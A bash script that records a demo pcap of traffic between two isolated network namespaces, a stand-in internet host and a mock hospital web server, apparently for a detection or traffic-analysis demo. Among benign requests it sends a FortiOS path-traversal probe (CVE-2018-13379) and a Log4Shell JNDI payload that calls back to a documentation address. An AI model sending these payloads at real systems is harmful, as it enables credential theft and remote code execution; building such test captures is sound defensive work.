#!/usr/bin/env bash
# Records demo/hospital-demo.pcap: real traffic between two network namespaces
# ("internet" 203.0.113.50 and a hospital web server 10.20.0.10) captured with
# tcpdump. Needs root, iproute2, tcpdump, python3 and curl. Run from the repo root.
set -euo pipefail
out=${1:-demo/hospital-demo.pcap}
p="wwdemo$$"
ext="${p}ext"; srv="${p}srv"
cleanup() {
    ip netns pids "$srv" 2>/dev/null | xargs -r kill 2>/dev/null || true
    ip netns pids "$ext" 2>/dev/null | xargs -r kill 2>/dev/null || true
    ip netns del "$ext" 2>/dev/null || true
    ip netns del "$srv" 2>/dev/null || true
}
trap cleanup EXIT
ip netns add "$ext"; ip netns add "$srv"
ip link add "${p}a" netns "$ext" type veth peer name "${p}b" netns "$srv"
ip -n "$ext" addr add 203.0.113.50/32 dev "${p}a"
ip -n "$srv" addr add 10.20.0.10/32 dev "${p}b"
for ns in "$ext" "$srv"; do ip -n "$ns" link set lo up; done
ip -n "$ext" link set "${p}a" up; ip -n "$srv" link set "${p}b" up
ip -n "$ext" route add 10.20.0.10/32 dev "${p}a"
ip -n "$srv" route add 203.0.113.50/32 dev "${p}b"
ip netns exec "$ext" ethtool -K "${p}a" tx off >/dev/null 2>&1 || true
ip netns exec "$srv" ethtool -K "${p}b" tx off >/dev/null 2>&1 || true

www=$(mktemp -d); echo "<html>St. Example Hospital intranet</html>" > "$www/index.html"
ip netns exec "$srv" python3 -m http.server 80 --bind 10.20.0.10 --directory "$www" >/dev/null 2>&1 &
ip netns exec "$srv" python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("10.20.0.10", 53))
for _ in range(2):
    q, a = s.recvfrom(512)
    # answer: same id, QR+RA, one A record 10.20.0.10
    r = q[:2] + b"\x81\x80" + q[4:6] + b"\x00\x01\x00\x00\x00\x00" + q[12:] + b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x0a\x14\x00\x0a"
    s.sendto(r, a)
' &
sleep 1
ip netns exec "$srv" tcpdump -Z root -i "${p}b" -w "$out" -U -s 0 >/dev/null 2>&1 &
dump=$!
sleep 1
c() { ip netns exec "$ext" curl -s -o /dev/null --max-time 5 "$@" || true; }
c -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" http://10.20.0.10/index.html
# FortiOS SSL-VPN path traversal (CVE-2018-13379) as scanners send it
c --path-as-is "http://10.20.0.10/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"
# Log4Shell (CVE-2021-44228) probe in the User-Agent
c -A '${jndi:ldap://203.0.113.50:1389/Exploit}' http://10.20.0.10/
# DNS lookups from the "internet" side
ip netns exec "$ext" python3 -c '
import socket, struct
for i, name in enumerate([b"\x03www\x07example\x03org\x00", b"\x06portal\x08hospital\x07example\x00"]):
    q = struct.pack(">HHHHHH", 0x1200 + i, 0x0100, 1, 0, 0, 0) + name + b"\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(q, ("10.20.0.10", 53)); s.recvfrom(512)
'
sleep 1
kill -INT "$dump"; wait "$dump" 2>/dev/null || true
rm -rf "$www"
echo "wrote $out"
